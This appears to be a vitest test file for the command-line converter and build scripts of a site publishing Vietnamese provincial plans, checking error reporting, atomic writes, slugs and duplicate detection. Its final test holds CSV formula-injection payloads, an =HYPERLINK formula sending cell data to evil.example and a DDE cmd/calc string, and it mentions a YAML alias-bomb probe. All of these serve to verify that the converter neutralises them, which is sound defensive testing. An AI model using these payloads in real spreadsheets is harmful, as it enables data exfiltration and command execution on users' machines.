// The command-line contract of `npm run convert`: --stdout, --check, and no partial output on error.
import { execFileSync, spawn, spawnSync } from 'node:child_process';
import { copyFileSync, cpSync, existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, utimesSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { convertCorpus } from '../src/convert/corpus.ts';
import { slugify } from '../src/convert/slug.ts';
import { parseCsv } from '../src/csv.ts';
import { docxOf } from './helpers/docx.ts';
import { ROOT, tax } from './helpers/sources.ts';

const PROBES = join(ROOT, 'tests/fixtures/probes');

const TSX = join(ROOT, 'node_modules/.bin/tsx');
const SCRIPT = join(ROOT, 'scripts/convert.ts');
const run = (args: string[], env: Record<string, string> = {}) =>
  spawnSync(TSX, [SCRIPT, ...args], { encoding: 'utf8', env: { ...process.env, ...env }, cwd: ROOT, timeout: 60_000 });

const temps: string[] = [];
afterEach(() => temps.splice(0).forEach((d) => rmSync(d, { recursive: true, force: true })));

/** A copy of the project's sources, taxonomies and generated files to convert elsewhere. */
function project(): string {
  const dir = mkdtempSync(join(tmpdir(), 'convert-'));
  temps.push(dir);
  for (const p of ['content/sources', 'content/plans', 'data']) cpSync(join(ROOT, p), join(dir, p), { recursive: true });
  return dir;
}

// Each test starts the command in its own process: allow for a loaded machine.
describe('npm run convert', { timeout: 60_000 }, () => {
  it('--stdout prints one record as JSON and writes nothing', () => {
    const out = execFileSync(TSX, [SCRIPT, '--stdout', 'content/sources/vinh-phuc-2023-2025.txt'], { cwd: ROOT, encoding: 'utf8' });
    const record = JSON.parse(out);
    expect(record.id).toBe('vinh-phuc-2023-2025');
    expect(record.targets).toHaveLength(22);
  });

  it('--stdout reads a relative path from the folder npm was run in, and a missing file is an error, not a crash', () => {
    const here = join(ROOT, 'content');
    const found = run(['--stdout', 'sources/vinh-phuc-2023-2025.txt'], { INIT_CWD: here });
    expect(found.status).toBe(0);
    expect(JSON.parse(found.stdout).id).toBe('vinh-phuc-2023-2025');
    const missing = run(['--stdout', 'sources/no-such-plan.txt'], { INIT_CWD: here });
    expect(missing.status).toBe(1);
    expect(missing.stderr).toContain(`no such file (${join(here, 'sources/no-such-plan.txt')})`);
    expect(missing.stderr).not.toMatch(/\bat \w+ \(/);
  });

  it('--check passes on the committed files and names a stale one', () => {
    const dir = project();
    expect(run(['--check'], { CONVERT_ROOT: dir }).status).toBe(0);
    writeFileSync(join(dir, 'data/targets.csv'), 'edited by hand\n');
    const r = run(['--check'], { CONVERT_ROOT: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('stale: data/targets.csv');
  });

  it('a bad source fails with file, line and advice, and nothing is written', () => {
    const dir = project();
    rmSync(join(dir, 'content/plans'), { recursive: true });
    rmSync(join(dir, 'data/plans'), { recursive: true });
    writeFileSync(join(dir, 'content/sources/zz-empty.txt'), '');
    const r = run([], { CONVERT_ROOT: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/content\/sources\/zz-empty\.txt.*empty/i);
    expect(r.stderr).toContain('nothing was written');
    expect(existsSync(join(dir, 'content/plans'))).toBe(false);
    expect(existsSync(join(dir, 'data/plans'))).toBe(false);
  });

  it('two sources with one slug are refused', () => {
    const dir = project();
    const text = readFileSync(join(dir, 'content/sources/vinh-phuc-2023-2025.txt'), 'utf8');
    writeFileSync(join(dir, 'content/sources/copy.txt'), `---\nslug: vinh-phuc-2023-2025\nduplicateOf: vinh-phuc-2023-2025\n---\n${text}`);
    const r = run([], { CONVERT_ROOT: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toContain('error: content/sources/copy.txt:2: two sources have the slug "vinh-phuc-2023-2025": this one and content/sources/vinh-phuc-2023-2025.txt');
  });

  it('a YAML alias bomb is a file:line error, and the other files\' errors are still reported (D04)', () => {
    const dir = project();
    copyFileSync(join(PROBES, 'fm-billion-laughs.txt'), join(dir, 'content/sources/fm-billion-laughs.txt'));
    writeFileSync(join(dir, 'content/sources/zz-empty.txt'), '');
    const r = run([], { CONVERT_ROOT: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/^error: content\/sources\/fm-billion-laughs\.txt:3: the frontmatter uses YAML aliases/m);
    expect(r.stderr).toMatch(/^error: content\/sources\/zz-empty\.txt: the file is empty/m);
    expect(r.stderr).toContain('2 error(s); nothing was written.');
    expect(r.stderr).not.toMatch(/ReferenceError|    at /);
  });

  it('a folder in content/sources is skipped with a note; a folder named x.txt too (D14)', () => {
    const dir = project();
    mkdirSync(join(dir, 'content/sources/old.txt'));
    mkdirSync(join(dir, 'content/sources/archive'));
    writeFileSync(join(dir, 'content/sources/archive/a.txt'), 'x');
    const r = run([], { CONVERT_ROOT: dir });
    expect(r.status).toBe(0);
    expect(r.stderr).toContain('note: content/sources/old.txt/ is a folder: skipped');
    expect(r.stderr).toContain('note: content/sources/archive/ is a folder: skipped');
    const one = run(['--stdout', join(dir, 'content/sources/old.txt')]);
    expect(one.status).toBe(1);
    expect(one.stderr).toMatch(/^error: .*old\.txt: this is a folder, not a document/);
    expect(one.stderr).not.toContain('EISDIR');
  });

  it('runs side by side do not trip over each other\'s temporary files (D10)', async () => {
    const dir = project();
    // Nothing generated yet: every run writes every file.
    for (const d of ['content/plans', 'data/plans']) rmSync(join(dir, d), { recursive: true });
    for (const f of ['targets.csv', 'agencies.csv', 'plans.csv']) rmSync(join(dir, 'data', f));
    const once = () => new Promise<{ code: number | null; stderr: string }>((resolve) => {
      const child = spawn(TSX, [SCRIPT], { env: { ...process.env, CONVERT_ROOT: dir }, cwd: ROOT });
      let stderr = '';
      child.stderr.on('data', (d: Buffer) => (stderr += d.toString()));
      child.on('close', (code) => resolve({ code, stderr }));
    });
    const results = await Promise.all([once(), once(), once()]);
    for (const r of results) expect(r).toEqual({ code: 0, stderr: '' });
    expect(run(['--check'], { CONVERT_ROOT: dir }).status).toBe(0);
    for (const d of ['content/plans', 'data/plans', 'data']) expect(readdirSync(join(dir, d)).filter((n) => n.endsWith('.tmp'))).toEqual([]);
  });

  it('an unknown frontmatter key is refused with its name and line', () => {
    const dir = project();
    const text = readFileSync(join(dir, 'content/sources/vinh-phuc-2023-2025.txt'), 'utf8');
    writeFileSync(join(dir, 'content/sources/vinh-phuc-2023-2025.txt'), `---\nslug: vinh-phuc-2023-2025\nprovince: x\n---\n${text}`);
    const r = run([], { CONVERT_ROOT: dir });
    expect(r.status).toBe(1);
    expect(r.stderr).toMatch(/vinh-phuc-2023-2025\.txt:3.*province/);
  });

  it('removing a source removes its generated files', () => {
    const dir = project();
    rmSync(join(dir, 'content/sources/bac-kan-chi-thi-06-2024.txt'));
    expect(run([], { CONVERT_ROOT: dir }).status).toBe(0);
    expect(existsSync(join(dir, 'content/plans/bac-kan-chi-thi-06-2024.md'))).toBe(false);
    expect(existsSync(join(dir, 'data/plans/bac-kan-chi-thi-06-2024.json'))).toBe(false);
    expect(readFileSync(join(dir, 'data/plans.csv'), 'utf8')).not.toContain('bac-kan-chi-thi-06-2024');
  });
});

describe('npm run build', () => {
  // A stand-in for astro that writes its pages into --outDir, then fails when asked to, as a
  // page that throws half-way through a build would (D09).
  function fakeAstro(dir: string): string {
    const bin = join(dir, 'fake-astro.sh');
    writeFileSync(bin, '#!/bin/sh\nout="$3"; mkdir -p "$out/.prerender" "$out/ke-hoach"; echo new > "$out/index.html"; echo x > "$out/.prerender/chunk.mjs"\n[ -n "$FAIL" ] && exit 1\nexit 0\n', { mode: 0o755 });
    return bin;
  }
  const build = (dir: string, env: Record<string, string>) =>
    spawnSync(TSX, [join(ROOT, 'scripts/build.ts')], { encoding: 'utf8', env: { ...process.env, BUILD_ROOT: dir, ASTRO_BIN: fakeAstro(dir), ...env }, timeout: 60_000 });

  it('a failed astro build leaves the previous dist/ whole; a good one replaces it (D09)', () => {
    const dir = mkdtempSync(join(tmpdir(), 'build-'));
    temps.push(dir);
    mkdirSync(join(dir, 'dist/ke-hoach/a'), { recursive: true });
    writeFileSync(join(dir, 'dist/index.html'), 'old');
    writeFileSync(join(dir, 'dist/ke-hoach/a/index.html'), 'old page');
    const failed = build(dir, { FAIL: '1' });
    expect(failed.status).toBe(1);
    expect(failed.stderr).toContain('dist/ is left as it was');
    expect(readFileSync(join(dir, 'dist/index.html'), 'utf8')).toBe('old');
    expect(readFileSync(join(dir, 'dist/ke-hoach/a/index.html'), 'utf8')).toBe('old page');
    expect(existsSync(join(dir, 'dist/.prerender'))).toBe(false);
    expect(readdirSync(dir).filter((n) => n.startsWith('.dist'))).toEqual([]);
    const ok = build(dir, {});
    expect(ok.status).toBe(0);
    expect(readFileSync(join(dir, 'dist/index.html'), 'utf8')).toBe('new\n');
    expect(existsSync(join(dir, 'dist/ke-hoach/a'))).toBe(false);
    expect(readdirSync(dir).filter((n) => n.startsWith('.dist'))).toEqual([]);
  }, 60_000);
});

describe('sources as editors name them', () => {
  function folder(files: Record<string, string | Uint8Array>): string {
    const dir = mkdtempSync(join(tmpdir(), 'corpus-'));
    temps.push(dir);
    mkdirSync(join(dir, 'src'));
    for (const [name, content] of Object.entries(files)) writeFileSync(join(dir, 'src', name), content);
    return dir;
  }
  const lang = () => readFileSync(join(ROOT, 'content/sources/lang-giang-2024-2025.txt'), 'utf8');
  const vinh = () => readFileSync(join(ROOT, 'content/sources/vinh-phuc-2023-2025.txt'), 'utf8');

  it('any file name makes a slug: lower-case ASCII, đ → d, marks removed, the rest a hyphen', () => {
    expect(slugify('KH 54_KH-UBND Lạng Sơn')).toBe('kh-54-kh-ubnd-lang-son');
    expect(slugify('01_ninh-thuan-182-kh-ubnd-2022')).toBe('01-ninh-thuan-182-kh-ubnd-2022');
    expect(slugify('  ĐỀ ÁN (bản cuối) — Đắk Lắk!! ')).toBe('de-an-ban-cuoi-dak-lak');
    expect(slugify('Ke\u0302\u0301 hoạch')).toBe('ke-hoach'); // NFD
    expect(slugify('—…!')).toBe('');
  });

  it('a .docx with a file name as editors have it converts, taking its frontmatter from the .yaml beside it', async () => {
    const dir = folder({
      'KH 54_KH-UBND Lạng Sơn.docx': await docxOf(vinh()),
      'KH 54_KH-UBND Lạng Sơn.yaml': 'signer: "Nguyễn Văn A"\n',
      '01_ninh-thuan-182-kh-ubnd-2022.txt': lang(),
    });
    const { converted, errors } = await convertCorpus(join(dir, 'src'), tax(), dir);
    expect(errors).toEqual([]);
    expect(converted.map((c) => [c.record.id, c.record.source.file, c.record.signer])).toEqual([
      ['01-ninh-thuan-182-kh-ubnd-2022', 'src/01_ninh-thuan-182-kh-ubnd-2022.txt', expect.anything()],
      ['kh-54-kh-ubnd-lang-son', 'src/KH 54_KH-UBND Lạng Sơn.docx', 'Nguyễn Văn A'],
    ]);
  });

  it('errors in the .yaml beside a .docx cite the .yaml and its line; a .yaml with no .docx is named', async () => {
    const dir = folder({ 'a b.docx': await docxOf(vinh()), 'a b.yaml': 'title: x\ncorrections:\n  - line: 1\n    value: 5\n    note: n\n', 'lost.yaml': 'title: x\n' });
    const { errors } = await convertCorpus(join(dir, 'src'), tax(), dir);
    expect(errors.map((e) => [e.file, e.line])).toEqual([['src/lost.yaml', null], ['src/a b.yaml', 3]]);
    expect(errors[0]!.what).toContain('there is no "lost.docx"');
    expect(errors[1]!.what).toContain('the correction for line 1 of the document matches 0 targets');
  });

  it('a name with no letter or digit is refused', async () => {
    const dir = folder({ '—.txt': lang() });
    const { errors } = await convertCorpus(join(dir, 'src'), tax(), dir);
    expect(errors.map((e) => e.what)).toEqual(['the file name "—.txt" has no letter or digit to make a page slug from']);
  });

  it('a slug collision blames the file whose name is not its slug, with the slug: line that fixes it (D12)', async () => {
    const dir = folder({ 'lang-giang-2024-2025.txt': lang(), 'fm-slug-collide.txt': readFileSync(join(PROBES, 'fm-slug-collide.txt')) });
    const { errors } = await convertCorpus(join(dir, 'src'), tax(), dir);
    const collision = errors.find((e) => e.what.startsWith('two sources'))!;
    expect(collision).toMatchObject({ file: 'src/fm-slug-collide.txt', line: 2 });
    expect(collision.what).toBe('two sources have the slug "lang-giang-2024-2025": this one and src/lang-giang-2024-2025.txt');
    expect(collision.todo).toContain('change line 2 of src/fm-slug-collide.txt to `slug: lang-giang-2024-2025-2`');
  });

  it('two derived slugs that collide blame the newer file and say where `slug:` goes', async () => {
    const dir = folder({ 'Kế hoạch 12.txt': lang(), 'ke-hoach-12.md': vinh() });
    utimesSync(join(dir, 'src/ke-hoach-12.md'), new Date(2020, 0, 1), new Date(2020, 0, 1));
    const { errors } = await convertCorpus(join(dir, 'src'), tax(), dir);
    expect(errors).toHaveLength(1);
    expect(errors[0]).toMatchObject({ file: 'src/Kế hoạch 12.txt', line: null });
    expect(errors[0]!.todo).toContain('add the line `slug: ke-hoach-12-2` to the frontmatter of src/Kế hoạch 12.txt');
  });

  it('the same document under two names is refused with both names, unless the frontmatter says it is deliberate (D08)', async () => {
    const dir = folder({ 'lang-giang-2024-2025.txt': lang(), 'dup-lang-giang-copy.txt': lang() });
    utimesSync(join(dir, 'src/lang-giang-2024-2025.txt'), new Date(2020, 0, 1), new Date(2020, 0, 1)); // the copy is newer
    const { errors } = await convertCorpus(join(dir, 'src'), tax(), dir);
    expect(errors.map((e) => `${e.file}: ${e.what}`)).toEqual([
      'src/dup-lang-giang-copy.txt: this is the same document as src/lang-giang-2024-2025.txt (the same text): its targets would count twice',
    ]);
    expect(errors[0]!.todo).toContain('`duplicateOf: lang-giang-2024-2025`');
    writeFileSync(join(dir, 'src/dup-lang-giang-copy.txt'), `---\nduplicateOf: lang-giang-2024-2025\n---\n${lang()}`);
    expect((await convertCorpus(join(dir, 'src'), tax(), dir)).errors).toEqual([]);
  });

  it('every CSV cell a spreadsheet would run as a formula is neutralised; the JSON keeps the text (D05)', () => {
    const dir = project();
    for (const f of ['fm-csv.txt', 'xss-body.md']) copyFileSync(join(PROBES, f), join(dir, 'content/sources', f));
    // The probe is the text of tp-bac-kan-2021-2025 under hostile frontmatter: a deliberate duplicate.
    const probeFile = join(dir, 'content/sources/fm-csv.txt');
    writeFileSync(probeFile, readFileSync(probeFile, 'utf8').replace(/^---\n/, '---\nduplicateOf: tp-bac-kan-2021-2025\n'));
    const r = run([], { CONVERT_ROOT: dir });
    expect(r.status).toBe(0);
    for (const f of ['targets.csv', 'agencies.csv', 'plans.csv']) {
      const text = readFileSync(join(dir, 'data', f), 'utf8');
      expect(text.startsWith('\uFEFF')).toBe(true);
      for (const row of parseCsv(text)) {
        for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
      }
    }
    const plans = parseCsv(readFileSync(join(dir, 'data/plans.csv'), 'utf8'));
    const fm = plans.find((p) => p.id === 'fm-csv')!;
    expect(fm.title).toBe(`'=HYPERLINK("http://evil.example/?x="&A1,"click")`);
    expect(fm.number).toBe("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(JSON.parse(readFileSync(join(dir, 'data/plans/fm-csv.json'), 'utf8')).title).toBe('=HYPERLINK("http://evil.example/?x="&A1,"click")');
  });
});
